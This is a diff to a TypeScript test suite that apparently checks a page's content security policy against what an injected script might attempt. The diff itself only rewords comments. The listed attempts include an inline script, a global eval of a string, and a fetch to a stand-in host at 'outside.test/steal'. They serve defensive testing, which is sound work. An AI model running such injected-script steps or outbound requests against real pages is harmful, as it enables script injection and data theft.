@@ -10,7 +10,7 @@ beforeAll(async () => {
   return testPage.close;
 });
 
-/** What a script that got into the page could try, and what it says of it. */
+/** Attempts of a script that got into the page. */
 const attempts: Readonly<Record<string, () => unknown>> = {
   "an inline script": () => {
     const script = document.createElement("script");
@@ -32,8 +32,8 @@ const attempts: Readonly<Record<string, () => unknown>> = {
     button.click();
   },
   "a string as code": () => {
-    // In a task of its own: the debugger's own evaluations are exempt.
-    // biome-ignore lint/security/noGlobalEval: This is what must not work.
+    // In a separate task, because the debugger's own evaluations are exempt.
+    // biome-ignore lint/security/noGlobalEval: this must not work.
     setTimeout(() => globalThis.eval("window.ran = true"));
   },
   "a request to another host": () => fetch("https://outside.test/steal"),
